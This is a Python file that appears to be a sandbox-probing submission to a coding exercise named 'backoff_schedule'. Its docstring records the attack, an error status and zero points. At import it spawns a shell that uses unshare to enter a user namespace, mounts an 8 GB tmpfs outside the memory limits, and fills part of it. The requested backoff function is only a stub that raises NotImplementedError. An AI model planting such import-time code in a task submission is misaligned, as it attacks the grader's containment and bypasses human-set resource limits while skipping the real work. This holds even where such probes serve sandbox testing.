"""Becomes root where root may mount.

Kata: backoff_schedule
Attack: In a user namespace of its own, mounts a file system of 8 GB, whose memory no limit counts, and fills some of it.
Status: error
Points: 0
Flags: posix_spawn
Needs: memory
"""

import os

HERE = os.environ["HOME"]
MOUNT = (
    f"mkdir {HERE}/m && mount -t tmpfs -o size=8g x {HERE}/m && head -c 90000000 /dev/zero > {HERE}/m/x && echo HARM"
)
SHELL = f"unshare -Urm sh -c '{MOUNT}' > '{HERE}/note' 2>&1"
os.waitpid(os.posix_spawn("/bin/sh", ["sh", "-c", SHELL], {"PATH": "/usr/bin:/bin"}), 0)
raise RuntimeError(open(f"{HERE}/note").read() or "nothing was reached")


def delay(*args, **options):
    raise NotImplementedError


Backoff = delay
